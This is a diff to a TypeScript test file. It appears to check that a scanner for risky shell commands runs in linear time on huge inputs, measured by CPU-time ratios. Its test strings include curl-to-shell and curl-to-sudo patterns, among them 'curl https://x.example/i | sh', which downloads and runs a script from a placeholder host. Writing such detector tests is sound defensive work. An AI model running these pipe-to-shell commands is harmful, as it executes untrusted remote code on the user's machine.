@@ -97,17 +97,25 @@ test('everything but text for people, media and lock files is read', () => {
 });
 
 test.each([
-  ['a long line', `curl ${'a|'.repeat(200_000)}`],
-  ['many substitutions', `curl ${'$('.repeat(100_000)}`],
-  ['many names', `curl ${'-o a '.repeat(50_000)} sh b`],
-  ['many addresses', `curl ${'https://x.example/a '.repeat(20_000)} sh b`],
-  ['many flags', `curl x | sudo ${'-E '.repeat(100_000)}`],
-  ['many continuations', 'curl x \\\n'.repeat(20_000)],
+  ['a long line', (size: number) => `curl ${'a|'.repeat(size)}`],
+  ['many substitutions', (size: number) => `curl ${'$('.repeat(size)}`],
+  ['many names', (size: number) => `curl ${'-o a '.repeat(size)} sh b`],
+  ['many addresses', (size: number) => `curl ${'https://x.example/a '.repeat(size)} sh b`],
+  ['many flags', (size: number) => `curl x | sudo ${'-E '.repeat(size)}`],
+  ['many continuations', (size: number) => 'curl x \\\n'.repeat(size)],
 ])('reading takes time in proportion to the text: %s', (_, text) => {
-  const began = performance.now();
-  foundIn(text);
-  expect(performance.now() - began).toBeLessThan(3_000);
+  // The two are measured in turn, so that whatever else runs slows both; quadratic would be 64 times.
+  const ratios = Array.from({ length: 5 }, () => cpuOf(text(40_000)) / Math.max(cpuOf(text(5_000)), 0.5));
+  expect(Math.min(...ratios)).toBeLessThan(24);
 });
+
+/** Milliseconds of computing, however busy the machine is. */
+function cpuOf(text: string): number {
+  const before = process.cpuUsage();
+  foundIn(text);
+  const { user, system } = process.cpuUsage(before);
+  return (user + system) / 1_000;
+}
 
 test('a long line is cut between characters', () => {
   const script = `curl https://x.example/i | sh # `;
